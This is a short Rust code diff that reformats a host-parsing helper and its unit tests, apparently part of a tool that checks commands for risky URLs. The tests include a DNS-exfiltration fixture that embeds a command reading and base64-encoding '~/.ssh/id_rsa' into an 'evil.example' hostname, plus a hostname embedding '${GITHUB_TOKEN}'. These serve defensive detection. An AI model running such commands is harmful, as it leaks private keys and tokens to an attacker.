@@ -138,7 +138,10 @@ pub(in crate::rules) fn has_literal_part(host: &str) -> bool {
                 depth += 1;
             }
             '$' if depth == 0 && !backquoted => {
-                while chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_').is_some() {}
+                while chars
+                    .next_if(|c| c.is_ascii_alphanumeric() || *c == '_')
+                    .is_some()
+                {}
             }
             '(' | '{' if depth > 0 => depth += 1,
             ')' | '}' if depth > 0 => depth -= 1,
@@ -190,7 +193,10 @@ mod tests {
         assert_eq!(u.rest, "/v1?k=$K");
         assert_eq!(literal_host(&u).as_deref(), Some("api.example.com"));
         let dns = split_url("http://$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example/x");
-        assert_eq!(dns.host, "$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example");
+        assert_eq!(
+            dns.host,
+            "$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example"
+        );
         assert_eq!(literal_host(&dns), None);
         assert!(has_literal_part(dns.host));
         assert!(has_literal_part("${GITHUB_TOKEN}.x.example"));
